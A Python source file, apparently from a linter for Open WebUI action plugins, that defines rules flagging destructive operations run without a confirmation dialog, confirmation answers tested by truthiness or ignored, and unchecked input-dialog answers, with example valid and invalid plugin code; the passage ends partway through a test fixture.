"""OWA4: confirmations and events (action contract §4).

`__event_call__` answers a confirmation with `True` (confirm) or `False` (cancel), an
`input` with the entered string (maybe `""`) or `False`, and any call with a truthy
`{"error": ...}` dict on timeout or disconnect. The facts these rules read come from
`analyzer.flow.events` (payloads, aliases), `analyzer.flow.gates` (risky operations,
confirmation gates, status paths) and `analyzer.flow.taint` (untrusted text into
JavaScript / HTML).
"""

from __future__ import annotations

from collections.abc import Iterator

import libcst as cst

from analyzer.findings import Confidence, Fix, Level
from analyzer.flow.events import (
    DictV,
    Evaluator,
    EventSite,
    ListV,
    Opaque,
    Value,
    action_returns,
    bind_arguments,
    const_str,
    event_facts,
    reach_suffix,
    site_value,
    unwrap_await,
)
from analyzer.flow.gates import (
    CATEGORY_TEXT,
    RiskyOp,
    WeakTest,
    authorization_flagged,
    ignored_confirmations,
    is_confirmation_answer,
    status_paths,
    unchecked_inputs,
    ungated_ops,
    weak_tests,
)
from analyzer.flow.guards import authorization_facts
from analyzer.flow.taint import (
    HTML_POLICY,
    JS_POLICY,
    Taint,
    describe_taint,
    is_low_confidence,
    taint_engine,
)
from analyzer.model import ActionModule, CallSite, FunctionInfo
from analyzer.rule import Invalid, LintRule, Valid

CALL_TYPES = ("confirmation", "input", "execute")
NOTIFICATION_TYPES = ("info", "success", "warning", "error")
EMBED_EVENTS = ("embeds", "chat:message:embeds")

GATE = (
    '`answer = await __event_call__({"type": "confirmation", "data": {"title": ..., '
    '"message": ...}})` and continue only `if answer is True`'
)


def _suffix(model: ActionModule, info: FunctionInfo, path: tuple[CallSite, ...] = ()) -> str:
    if info is model.action_method:
        return ""
    return reach_suffix(model, info, path)


def _line(model: ActionModule, node: cst.CSTNode) -> int:
    return model.position(node).start.line


def _code(model: ActionModule, node: cst.CSTNode, limit: int = 40) -> str:
    text = " ".join(model.module.code_for_node(node).split())
    return text if len(text) <= limit else text[: limit - 1] + "…"


class RiskyOpWithoutConfirmation(LintRule):
    """
    ## What it does
    Reports a risky operation reachable from `action` on some path that no confirmation
    gate guards. Risky means irreversible or destructive: Open WebUI data-layer deletes and
    updates (also of the user's own data, such as deleting their chat), process execution,
    `shutil.rmtree`, sending mail, HTTP `DELETE`, and writes to Open WebUI's admin API (the
    catalog is `rules/data/risky.tsv`). A gate is
    `answer = await __event_call__({"type": "confirmation", ...})` followed by a branch that
    continues only when `answer is True` (or `== True`, or truthy and not a dict), also
    through a helper that returns such a test or only returns when confirmed.

    ## Why is this bad?
    An action button is one click, often a mis-click next to the copy button. Without a
    confirmation dialog, deleting chats, mailing a transcript or calling a destructive API
    happens before the user can say no (CWE-356: the interface does not warn the user before
    an unsafe action taken on their behalf). A broken gate is no gate: when the answer is tested
    by truthiness (OWA402) the operation is still reported here, because a timed-out dialog
    lets it through.

    Where a role check is missing (OWA301, OWA303, OWA305 fire at the call), this rule stays
    silent: the role guard comes first. Calling the model, generating images or posting to
    the service the action exists to call are not risky.

    ## Example
    ```python
    async def action(self, body, __user__=None, __event_call__=None):
        await Chats.delete_chat_by_id(body["chat_id"])
    ```

    ## Use instead
    ```python
    from open_webui.models.chats import Chats

    class Action:
        async def action(self, body, __user__=None, __event_call__=None):
            answer = await __event_call__(
                {"type": "confirmation", "data": {"title": "Delete chat?", "message": "This cannot be undone."}}
            )
            if answer is not True:
                return
            await Chats.delete_chat_by_id(body["chat_id"])
    ```
    """

    code = "OWA401"
    name = "risky-op-without-confirmation"
    level = Level.WARNING
    security = True
    cwe = (356,)
    summary = "A destructive operation runs without a confirmation dialog first."

    def check(self) -> None:
        model = self.module
        flagged = authorization_flagged(model, self.settings)
        auth = authorization_facts(model, self.settings)
        weak = weak_tests(model)
        for item in ungated_ops(model):
            op = item.op
            if op.call in flagged or auth.is_dead(model, op.call):
                continue  # OWA301/303/305 fired there, or dead code (only OWA302 applies)
            broken = self._broken_gates(weak, op, item.path)
            note = ""
            if broken:
                note = (
                    f" (the confirmation tested on line {_line(model, broken[0].node)} lets a "
                    "timed-out dialog through: see OWA402)"
                )
            self.report(
                None,
                f"`{op.short}` {CATEGORY_TEXT[op.entry.category]} with no confirmation "
                f"before it{note}; ask first with {GATE}" + _suffix(model, op.function, item.path),
                location=model.statement_location(op.call),
            )

    def _broken_gates(
        self, weak: list[WeakTest], op: RiskyOp, path: tuple[CallSite, ...]
    ) -> list[WeakTest]:
        """Truthiness-tested confirmations on the way to `op` (before it in its function, or
        before the call that leads to it in a caller)."""
        model = self.module
        before: dict[str, int] = {op.function.qualname: _line(model, op.call)}
        for site in path:
            before.setdefault(site.caller, _line(model, site.node))
        return [
            w
            for w in weak
            if w.function.qualname in before and _line(model, w.node) < before[w.function.qualname]
        ]

    VALID = [
        Valid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    answer = await __event_call__(
                        {"type": "confirmation", "data": {"title": "Delete this chat?", "message": "This cannot be undone."}}
                    )
                    if answer is not True:
                        return {"messages": []}
                    await Chats.delete_chat_by_id(body["chat_id"])
            """
        ),
        Valid(
            """
            import smtplib
            from email.message import EmailMessage

            class Action:
                async def _confirm(self, ask, title, message):
                    result = await ask({"type": "confirmation", "data": {"title": title, "message": message}})
                    return result is True

                async def action(self, body, __user__=None, __event_call__=None):
                    user = __user__ or {}
                    if not await self._confirm(__event_call__, "Email transcript?", f"Send to {user.get('email')}?"):
                        return
                    msg = EmailMessage()
                    msg.set_content("\\n".join(m["content"] for m in body["messages"]))
                    with smtplib.SMTP("localhost") as server:
                        server.send_message(msg)
            """
        ),
        Valid(
            """
            import httpx

            class Action:
                async def _purge(self, item_id):
                    async with httpx.AsyncClient() as client:
                        await client.delete(f"https://todo.example.com/items/{item_id}")

                async def action(self, body, __event_call__=None, __event_emitter__=None):
                    confirmed = await __event_call__(
                        {"type": "confirmation", "data": {"title": "Remove task", "message": "Delete it?"}}
                    )
                    if confirmed == True:
                        await self._purge(body["id"])
            """
        ),
        Valid(
            """
            import shutil
            import tempfile

            class Action:
                async def action(self, body, __user__=None):
                    workdir = tempfile.mkdtemp(prefix="export-")
                    try:
                        with open(f"{workdir}/chat.md", "w") as fh:
                            fh.write(body["messages"][-1]["content"])
                    finally:
                        shutil.rmtree(workdir)
            """
        ),
        Valid(
            """
            from open_webui.models.chats import Chats
            from open_webui.main import generate_chat_completion

            class Action:
                async def action(self, body, __user__=None, __request__=None):
                    # Reading and calling the model are not risky.
                    chat = await Chats.get_chat_by_id(body["chat_id"])
                    await generate_chat_completion(__request__, {"model": body["model"], "messages": []}, None)
                    return {"messages": [{"id": body["id"], "content": chat.title}]}
            """
        ),
        Valid(
            """
            from open_webui.models.memories import Memories

            class Action:
                async def _require_confirmation(self, __event_call__):
                    answer = await __event_call__({"type": "confirmation", "data": {"title": "Forget", "message": "Clear all memories?"}})
                    if answer is not True:
                        raise RuntimeError("Cancelled")

                async def action(self, body, __user__=None, __event_call__=None):
                    await self._require_confirmation(__event_call__)
                    await Memories.delete_memories_by_user_id(__user__["id"])
            """
        ),
        Valid(
            """
            import asyncio
            import logging

            from open_webui.models.chats import Chats

            log = logging.getLogger(__name__)

            class Action:
                async def _notify(self, emitter, text, level="info"):
                    await emitter({"type": "notification", "data": {"type": level, "content": text}})

                def _purge(self, chat_id, user_id):
                    log.info("purging %s for %s", chat_id, user_id)
                    return Chats.delete_chat_by_id_and_user_id(chat_id, user_id)

                async def action(self, body, __user__=None, __event_emitter__=None, __event_call__=None):
                    # An assignment expression in the test is a gate like any other.
                    if (ok := await __event_call__(
                        {"type": "confirmation", "data": {"title": "Delete chat", "message": "Delete this chat for good?"}}
                    )) is not True:
                        await self._notify(__event_emitter__, "Kept the chat.")
                        return None
                    log.info("confirmed: %r", ok)
                    await asyncio.to_thread(self._purge, body["chat_id"], __user__["id"])
                    await self._notify(__event_emitter__, "Chat deleted.", "success")
            """
        ),
        Valid(
            """
            import subprocess

            class Action:
                async def action(self, body, __user__=None):
                    # No role check: OWA301 reports this call, so OWA401 stays silent.
                    subprocess.run(["git", "-C", "/srv/notes", "pull"], check=True)
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_emitter__=None):
                    await __event_emitter__({"type": "status", "data": {"description": "Deleting…", "done": False}})
                    await Chats.delete_chat_by_id(body["chat_id"])
                    await __event_emitter__({"type": "status", "data": {"description": "Deleted", "done": True}})
            """,
            lines=(6,),
            message="deletes Open WebUI data with no confirmation",
        ),
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    confirmed = await __event_call__(
                        {"type": "confirmation", "data": {"title": "Rename", "message": "Rename this chat?"}}
                    )
                    if not confirmed:
                        return
                    title = body["messages"][0]["content"][:40]
                    await Chats.update_chat_title_by_id(body["chat_id"], title)
            """,
            lines=(11,),
            message="see OWA402",
        ),
        Invalid(
            """
            import smtplib

            class Action:
                class Valves:
                    smtp_host = "localhost"

                def __init__(self):
                    self.valves = self.Valves()

                def _send(self, to, text):
                    server = smtplib.SMTP(self.valves.smtp_host)
                    server.sendmail("bot@example.com", [to], text)
                    server.quit()

                async def action(self, body, __user__=None):
                    user = __user__ or {}
                    self._send(user.get("email"), body["messages"][-1]["content"])
            """,
            lines=(12,),
            message="reaches it through Action._send",
        ),
        Invalid(
            """
            import requests

            class Action:
                async def action(self, body, __event_call__=None):
                    if body.get("messages"):
                        answer = await __event_call__({"type": "confirmation", "data": {"title": "Close ticket", "message": "Close it?"}})
                        if answer is not True:
                            return
                    requests.delete(f"https://tickets.example.com/api/tickets/{body['chat_id']}")
            """,
            lines=(9,),
            message="sends an HTTP DELETE",
        ),
        Invalid(
            """
            from open_webui.models.memories import Memories

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Forget", "message": "Forget everything?"}})
                    await Memories.delete_memories_by_user_id(__user__["id"])
                    if ok is True:
                        return {"messages": [{"id": body["id"], "content": "Forgotten."}]}
            """,
            lines=(6,),
        ),
        Invalid(
            """
            import subprocess

            class Action:
                async def action(self, body, __user__=None):
                    if (__user__ or {}).get("role") != "admin":
                        return
                    subprocess.run(["git", "-C", "/srv/notes", "push"], check=True)
            """,
            lines=(7,),
            message="runs a process",
        ),
    ]


class ConfirmationTruthiness(LintRule):
    """
    ## What it does
    Reports a test of a confirmation answer by truthiness (`if not confirmed: return`,
    `if confirmed:`, `bool(answer)`, a helper returning the raw answer) or against `False`
    only (`if answer is False: return`), on the test itself.

    ## Why is this bad?
    On timeout or when the tab disconnects, Open WebUI's `__event_call__` does not raise: it
    returns `{"error": "..."}` (§4 of the action contract). That dict is truthy and is not
    `False`, so `if not confirmed: return` lets the destructive operation run although nobody
    confirmed. This is a common bug in community actions. Only `answer is True` (or
    `== True`) means the user clicked Confirm. A test that also rules out the error dict in
    the same condition (`if not answer or isinstance(answer, dict): return`) is accepted.

    ## Example
    ```python
    confirmed = await __event_call__({"type": "confirmation", "data": {...}})
    if not confirmed:
        return
    ```

    ## Use instead
    ```python
    from open_webui.models.chats import Chats

    class Action:
        async def action(self, body, __event_call__=None):
            confirmed = await __event_call__(
                {"type": "confirmation", "data": {"title": "Delete chat?", "message": "This cannot be undone."}}
            )
            if confirmed is not True:
                return
            await Chats.delete_chat_by_id(body["chat_id"])
    ```

    ## Fix
    `check --fix` rewrites `if not answer:` as `if answer is not True:`, `if answer:` as
    `if answer is True:` and `answer is False` as `answer is not True`, when `answer` is
    certainly the raw reply (`await __event_call__(...)` itself, the `await` of an async
    helper whose every `return` hands such a reply back, or a name only ever assigned from
    one of those) and the test is a condition (or an `and` / `or` operand of one). A reply
    passed through `bool()` is left for you: `is True` would hide the bug, not fix it.
    """

    code = "OWA402"
    name = "confirmation-truthiness"
    level = Level.ERROR
    security = True
    cwe = (754,)
    summary = "A confirmation answer tested by truthiness lets a timed-out dialog through."
    fixable = True

    def check(self) -> None:
        model = self.module
        for weak in weak_tests(model):
            code = _code(model, weak.node)
            if weak.how == "truthy":
                why = (
                    f"the confirmation answer is tested by truthiness (`{code}`): on timeout or "
                    'disconnect `__event_call__` returns a truthy `{"error": ...}` dict, so the '
                    "operation runs although nobody confirmed; continue only when "
                    "`answer is True`"
                )
            else:
                why = (
                    f"`{code}` stops only on Cancel: on timeout or disconnect "
                    '`__event_call__` returns an `{"error": ...}` dict, which is not `False`, '
                    "so the operation runs unconfirmed; test `answer is not True` instead"
                )
            self.report(
                None,
                why + _suffix(model, weak.function),
                location=model.statement_location(weak.node),
                fix=self._strict_test(weak),
            )

    def _strict_test(self, weak: WeakTest) -> Fix | None:
        """`if not r:` -> `if r is not True:`, `if r:` -> `if r is True:`, `if r is False:`
        -> `if r is not True:`; only where `r` certainly holds the raw answer (every binding
        of it is `r = await __event_call__(...)`) and the test is a condition of its own or
        an operand of `and` / `or` in one."""
        model = self.module
        node = weak.node
        if not _condition_operand(model, node) or node.lpar:
            return None
        negated = False
        subject: cst.BaseExpression = node
        if isinstance(node, cst.UnaryOperation) and isinstance(node.operator, cst.Not):
            negated, subject = True, node.expression
        if weak.how == "is-false":
            if negated or not isinstance(node, cst.Comparison) or len(node.comparisons) != 1:
                return None
            target = node.comparisons[0]
            is_false = (
                isinstance(target.comparator, cst.Name) and target.comparator.value == "False"
            )
            if not is_false or not isinstance(target.operator, (cst.Is, cst.Equal)):
                return None
            subject, negated = node.left, True
        if subject.lpar or not _raw_answer(model, subject, weak.function):
            return None
        strict = f"{self.code_of(subject)} is {'not ' if negated else ''}True"
        return Fix(f"Test `{strict}`", (self.replace(node, strict),))

    VALID = [
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    confirmed = await __event_call__({"type": "confirmation", "data": {"title": "Clear", "message": "Clear the chat?"}})
                    if confirmed is not True:
                        return
                    return {"messages": [{"id": body["id"], "content": ""}]}
            """
        ),
        Valid(
            """
            class Action:
                async def _ask(self, call, text):
                    answer = await call({"type": "confirmation", "data": {"title": "Confirm", "message": text}})
                    return answer is True

                async def action(self, body, __event_call__=None):
                    if not await self._ask(__event_call__, "Post this to Slack?"):
                        return
                    ok = await self._ask(__event_call__, "Really?")
                    if ok:
                        return {"messages": [{"id": body["id"], "content": "Posted"}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    answer = await __event_call__({"type": "confirmation", "data": {"title": "Go", "message": "Continue?"}})
                    if isinstance(answer, bool) and answer:
                        return {"messages": [{"id": body["id"], "content": "Continued"}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # An input answer may be tested by truthiness: "" and False both stop.
                    name = await __event_call__({"type": "input", "data": {"title": "Name", "message": "File name?"}})
                    if not name:
                        return
                    return {"messages": [{"id": body["id"], "content": f"Saved as {name}"}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # The error dict is handled in the same test.
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Send", "message": "Send it?"}})
                    if not ok or isinstance(ok, dict):
                        return None
                    return {"messages": [{"id": body["id"], "content": "Sent"}]}
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None, __event_emitter__=None):
                    if __event_emitter__:
                        await __event_emitter__({"type": "status", "data": {"description": "Asking", "done": True}})
                    result = await __event_call__({"type": "confirmation", "data": {"title": "Share", "message": "Share it?"}})
                    if result == True:
                        return {"messages": [{"id": body["id"], "content": "Shared"}]}
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    confirmed = await __event_call__(
                        {"type": "confirmation", "data": {"title": "Delete chat", "message": "Are you sure?"}}
                    )
                    if not confirmed:
                        return
                    await Chats.delete_chat_by_id(body["chat_id"])
            """,
            lines=(8,),
            message='truthy `{"error": ...}` dict',
            fixed="""
                from open_webui.models.chats import Chats

                class Action:
                    async def action(self, body, __user__=None, __event_call__=None):
                        confirmed = await __event_call__(
                            {"type": "confirmation", "data": {"title": "Delete chat", "message": "Are you sure?"}}
                        )
                        if confirmed is not True:
                            return
                        await Chats.delete_chat_by_id(body["chat_id"])
            """,
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    if await __event_call__({"type": "confirmation", "data": {"title": "Send", "message": "Send?"}}):
                        return {"messages": [{"id": body["id"], "content": "Sent"}]}
            """,
            lines=(3,),
            fixed="""
                class Action:
                    async def action(self, body, __event_call__=None):
                        if await __event_call__({"type": "confirmation", "data": {"title": "Send", "message": "Send?"}}) is True:
                            return {"messages": [{"id": body["id"], "content": "Sent"}]}
            """,
        ),
        Invalid(
            """
            class Action:
                async def _confirm(self, emitter_call, message):
                    return await emitter_call({"type": "confirmation", "data": {"title": "Please confirm", "message": message}})

                async def action(self, body, __event_call__=None):
                    if not await self._confirm(__event_call__, "Archive this chat?"):
                        return None
                    return {"messages": [{"id": body["id"], "content": "Archived"}]}
            """,
            lines=(6,),
            fixed="""
                class Action:
                    async def _confirm(self, emitter_call, message):
                        return await emitter_call({"type": "confirmation", "data": {"title": "Please confirm", "message": message}})

                    async def action(self, body, __event_call__=None):
                        if await self._confirm(__event_call__, "Archive this chat?") is not True:
                            return None
                        return {"messages": [{"id": body["id"], "content": "Archived"}]}
            """,
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    answer = await __event_call__({"type": "confirmation", "data": {"title": "Reset", "message": "Reset?"}})
                    if answer is False:
                        return
                    return {"messages": [{"id": body["id"], "content": "Reset done"}]}
            """,
            lines=(4,),
            message="stops only on Cancel",
            fixed="""
                class Action:
                    async def action(self, body, __event_call__=None):
                        answer = await __event_call__({"type": "confirmation", "data": {"title": "Reset", "message": "Reset?"}})
                        if answer is not True:
                            return
                        return {"messages": [{"id": body["id"], "content": "Reset done"}]}
            """,
        ),
        Invalid(
            """
            import asyncio

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    user = __user__ or {}
                    proceed = await asyncio.wait_for(
                        __event_call__({"type": "confirmation", "data": {"title": "Export", "message": f"Mail to {user.get('email')}?"}}),
                        timeout=60,
                    )
                    proceed = bool(proceed)
                    if proceed and body.get("messages"):
                        return {"messages": [{"id": body["id"], "content": "Mailed"}]}
            """,
            lines=(11,),
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # Ask first; an empty chat has nothing to post.
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Post", "message": "Post it?"}})
                    while not ok or not body.get("messages"):  # stop on anything but Confirm
                        return None
                    return {"messages": [{"id": body["id"], "content": "Posted"}]}
            """,
            lines=(5,),
            fixed="""
                class Action:
                    async def action(self, body, __event_call__=None):
                        # Ask first; an empty chat has nothing to post.
                        ok = await __event_call__({"type": "confirmation", "data": {"title": "Post", "message": "Post it?"}})
                        while ok is not True or not body.get("messages"):  # stop on anything but Confirm
                            return None
                        return {"messages": [{"id": body["id"], "content": "Posted"}]}
            """,
        ),
        Invalid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # `ok` is rebound from something other than the raw answer: no autofix.
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Post", "message": "Post it?"}})
                    if body.get("force"):
                        ok = body.get("confirmed")
                    if not ok:
                        return None
                    return {"messages": [{"id": body["id"], "content": "Posted"}]}
            """,
            lines=(7,),
        ),
        Invalid(
            """
            class Action:
                async def _ask(self, call, text):
                    reply = await call({"type": "confirmation", "data": {"title": "Confirm", "message": text}})
                    return bool(reply)  # an error dict becomes True: no autofix hides that

                async def action(self, body, __event_call__=None):
                    if not await self._ask(__event_call__, "Publish this reply?"):
                        return None
                    return {"messages": [{"id": body["id"], "content": "Published"}]}
            """,
            lines=(7,),
        ),
        Invalid(
            """
            from open_webui.models.memories import Memories

            class Action:
                async def _ask(self, call, text):
                    return await call({"type": "confirmation", "data": {"title": "Forget", "message": text}})

                async def action(self, body, __user__=None, __event_emitter__=None, __event_call__=None):
                    if not (ok := await self._ask(__event_call__, "Forget everything about you?")):
                        return {"messages": [{"id": body["id"], "content": "Nothing forgotten."}]}
                    await Memories.delete_memories_by_user_id(__user__["id"])
                    if (again := await __event_call__({"type": "confirmation", "data": {"title": "Chats", "message": "Also clear this chat?"}})):
                        await __event_emitter__({"type": "replace", "data": {"content": ""}})
                    return {"messages": [{"id": body["id"], "content": f"Forgotten ({ok}, {again})."}]}
            """,
            lines=(8, 11),
            message="truthiness",
        ),
    ]


def _condition_operand(model: ActionModule, node: cst.CSTNode) -> bool:
    """`node` is the test of an `if` / `while`, or an operand of `and` / `or` that is one."""
    child, parent = node, model.parent(node)
    while isinstance(parent, cst.BooleanOperation):
        child, parent = parent, model.parent(parent)
    return isinstance(parent, (cst.If, cst.While)) and parent.test is child


def _raw_answer(model: ActionModule, subject: cst.BaseExpression, info: FunctionInfo) -> bool:
    """`subject` certainly holds the raw reply: `await __event_call__(...)` itself, `await`
    of a helper of the module whose every `return` hands back such a reply, or a name
    whose every binding is one of those."""
    if isinstance(subject, cst.Await):
        return _awaits_raw_answer(model, subject, info)
    if not isinstance(subject, cst.Name):
        return False
    bindings = model.referents(subject)
    if not bindings:
        return False
    for binding in bindings:
        target = None if binding is None else model.parent(binding)
        assign = None if target is None else model.parent(target)
        if not (
            isinstance(target, cst.AssignTarget)
            and isinstance(assign, cst.Assign)
            and len(assign.targets) == 1
            and _awaits_raw_answer(model, assign.value, info)
        ):
            return False
    return True


def _awaits_raw_answer(model: ActionModule, expr: cst.BaseExpression, info: FunctionInfo) -> bool:
    if is_confirmation_answer(model, expr):
        return True
    if not isinstance(expr, cst.Await) or not isinstance(expr.expression, cst.Call):
        return False
    callee = model.resolve_callable(expr.expression.func, info)
    helper = model.functions.get(callee) if callee else None
    if helper is None or not helper.is_async:
        return False
    returns = model.own_of(helper.node.body, cst.Return, lambdas=False)
    return bool(returns) and all(
        r.value is not None and is_confirmation_answer(model, r.value) for r in returns
    )


class ConfirmationIgnored(LintRule):
    """
    ## What it does
    Reports a confirmation whose answer is thrown away (`await __event_call__({...})` as a
    statement), assigned but never read, or not yet tested when a risky operation (or a
    helper that performs one) runs. Reported on the `__event_call__` statement that asks.

    ## Why is this bad?
    The dialog suggests the user can still say no, but the operation runs whatever they
    click: Cancel, Escape and a timeout all continue. That is worse than no dialog at all.

    ## Example
    ```python
    await __event_call__({"type": "confirmation", "data": {"title": "Delete?", "message": "Sure?"}})
    await Chats.delete_chat_by_id(body["chat_id"])
    ```

    ## Use instead
    ```python
    from open_webui.models.chats import Chats

    class Action:
        async def action(self, body, __event_call__=None):
            answer = await __event_call__({"type": "confirmation", "data": {"title": "Delete?", "message": "Sure?"}})
            if answer is not True:
                return
            await Chats.delete_chat_by_id(body["chat_id"])
    ```
    """

    code = "OWA403"
    name = "confirmation-ignored"
    level = Level.ERROR
    security = True
    cwe = (252,)
    summary = "A confirmation whose answer is discarded or tested too late."

    def check(self) -> None:
        model = self.module
        for item in ignored_confirmations(model):
            site = item.site
            if item.reason == "discarded":
                text = "the answer of this confirmation is thrown away"
            elif item.reason == "never-read":
                text = "the answer of this confirmation is stored but never tested"
            else:
                assert item.op_node is not None
                text = (
                    f"line {_line(model, item.op_node)} (`{_code(model, item.op_node)}`) runs "
                    "before the answer of this confirmation is tested"
                )
            self.report(
                None,
                f"{text}: the operation happens whatever the user clicks (Cancel, Escape and "
                f"timeouts included); assign the answer and continue only `if answer is True`"
                + _suffix(model, site.function),
                location=model.statement_location(site.call),
            )

    VALID = [
        Valid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    answer = await __event_call__({"type": "confirmation", "data": {"title": "Delete", "message": "Delete this chat?"}})
                    if answer is not True:
                        return
                    await Chats.delete_chat_by_id(body["chat_id"])
            """
        ),
        Valid(
            """
            class Action:
                async def _ask(self, call):
                    return await call({"type": "confirmation", "data": {"title": "Go", "message": "Proceed?"}})

                async def action(self, body, __event_call__=None):
                    if await self._ask(__event_call__) is True:
                        return {"messages": [{"id": body["id"], "content": "Done"}]}
            """
        ),
        Valid(
            """
            import requests

            class Action:
                async def action(self, body, __event_call__=None):
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Close", "message": "Close the ticket?"}})
                    if ok is True:
                        requests.delete(f"https://tickets.example.com/{body['chat_id']}")
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
                    # Informational dialog with no operation behind it: the answer is used.
                    seen = await __event_call__({"type": "confirmation", "data": {"title": "Tip", "message": "Got it?"}})
                    return {"messages": [{"id": body["id"], "content": "Thanks" if seen is True else "OK"}]}
            """
        ),
        Valid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __event_call__=None):
                    await __event_call__({"type": "input", "data": {"title": "Note", "message": "Anything to add?"}})
                    chat = await Chats.get_chat_by_id(body["chat_id"])
                    return {"messages": [{"id": body["id"], "content": chat.title}]}
            """
        ),
    ]
    INVALID = [
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    await __event_call__(
                        {"type": "confirmation", "data": {"title": "Delete chat", "message": "This cannot be undone."}}
                    )
                    await Chats.delete_chat_by_id(body["chat_id"])
            """,
            lines=(5,),
            message="thrown away",
        ),
        Invalid(
            """
            import smtplib

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    confirmed = await __event_call__({"type": "confirmation", "data": {"title": "Mail", "message": "Send the transcript?"}})
                    with smtplib.SMTP("localhost") as smtp:
                        smtp.sendmail("bot@example.com", [(__user__ or {}).get("email")], "...")
            """,
            lines=(5,),
            message="never tested",
        ),
        Invalid(
            """
            from open_webui.models.memories import Memories

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    ok = await __event_call__({"type": "confirmation", "data": {"title": "Forget", "message": "Forget everything?"}})
                    await Memories.delete_memories_by_user_id(__user__["id"])
                    if ok is not True:
                        return {"messages": [{"id": body["id"], "content": "Already done, sorry."}]}
            """,
            lines=(5,),
            message="line 6",
        ),
        Invalid(
            """
            import httpx

            class Action:
                async def _close(self, ticket):
                    async with httpx.AsyncClient() as client:
                        await client.delete(f"https://tickets.example.com/{ticket}")

                async def action(self, body, __event_call__=None):
                    answer = await __event_call__({"type": "confirmation", "data": {"title": "Close", "message": "Close it?"}})
                    await self._close(body["chat_id"])
                    return {"messages": [{"id": body["id"], "content": str(answer)}]}
            """,
            lines=(9,),
        ),
        Invalid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def _ask(self, call):
                    await call({"type": "confirmation", "data": {"title": "Clear tags", "message": "Remove all tags?"}})

                async def action(self, body, __event_call__=None):
                    await self._ask(__event_call__)
                    await Chats.update_chat_tags_by_id(body["chat_id"], [], None)
            """,
            lines=(5,),
            message="reaches it through Action._ask",
        ),
    ]


class InputResultUnchecked(LintRule):
    """
    ## What it does
    Reports an `input` dialog (`__event_call__` with `"type": "input"`) whose answer is used
    as text (formatted, concatenated, passed on, a string method called) while it may still
    be `False` (Cancel), `""` (an empty submit) or an `{"error": ...}` dict (a timeout or
    disconnect). Reported on the `__event_call__` statement that asks.

    `isinstance(answer, str)` handles all three. A truthiness test (`if not name: return`,
    `if content:`) handles Cancel and the empty submit but lets the truthy error dict
    through; `is False` / `== ""` handle one value each; `is None` handles nothing. A check
    handles only on the branch where it passes: a failing branch that reports (a status, a
    notification) and then falls through into using the answer handles nothing. A
    conversion that raises on the bad values (`int(answer)`, `datetime.strptime(answer,
    ...)`, a `parse_*` helper, a string method) inside a `try` whose `except` leaves the path
    handles them; code in the branch of a failed type test, and a helper that tests the
    parameter's type itself, are taken as handling it.

    ## Why is this bad?
    Cancel returns `False`, an empty submit returns `""`, and a timeout or disconnect
    returns an `{"error": ...}` dict (§4 of the action contract). Used as text, the chat gets
    renamed to `False`, a file named `{'error': ...}.md` is written, or `.strip()` raises and
    the user sees an error toast. `if name is None` never catches any of these.

    ## Example
    ```python
    name = await __event_call__({"type": "input", "data": {"title": "Rename", "message": "New title"}})
    await Chats.update_chat_title_by_id(body["chat_id"], name.strip())
    ```

    ## Use instead
    ```python
    class Action:
        async def action(self, body, __event_emitter__=None, __event_call__=None):
            name = await __event_call__({"type": "input", "data": {"title": "Greet", "message": "Your name"}})
            if not isinstance(name, str) or not name.strip():
                return
            await __event_emitter__({"type": "message", "data": {"content": f"Hello, {name.strip()}!"}})
    ```
    """

    code = "OWA404"
    name = "input-result-unchecked"
    level = Level.WARNING
    summary = (
        'An `input` answer used as text while it may be `False` (Cancel), `""` or a '
        "timeout's error dict."
    )

    def check(self) -> None:
        model = self.module
        for item in unchecked_inputs(model):
            if "cancel" in item.modes:
                why = (
                    "without handling Cancel: it is `False` on Cancel, "
                    '`""` on an empty submit and an `{"error": ...}` dict on timeout (never '
                    "`None`)"
                )
            elif "error" in item.modes:
                why = (
                    "after a check that lets the truthy "
                    '`{"error": ...}` dict of a timed-out or disconnected dialog through '
                    "(a truthiness test handles only Cancel and an empty submit)"
                )
            else:
                why = 'without handling an empty submit (`""`)'
            self.report(
                None,
                f"the answer of this `input` dialog is used as text on line "
                f"{_line(model, item.use)} {why}; check "
                "`if not isinstance(answer, str) or not answer.strip(): return` "
                "first" + _suffix(model, item.site.function),
                location=model.statement_location(item.site.call),
            )

    VALID = [
        Valid(
            """
            from open_webui.models.chats import Chats

            class Action:
                async def action(self, body, __user__=None, __event_call__=None):
                    title = await __event_call__({"type": "input", "data": {"title": "Rename", "message": "New title", "placeholder": "Title"}})
                    if not isinstance(title, str) or not title.strip():
                        return
                    await Chats.update_chat_title_by_id(body["chat_id"], title.strip())
            """
        ),
        Valid(
            """
            class Action:
                async def action(self, body, __event_call__=None):
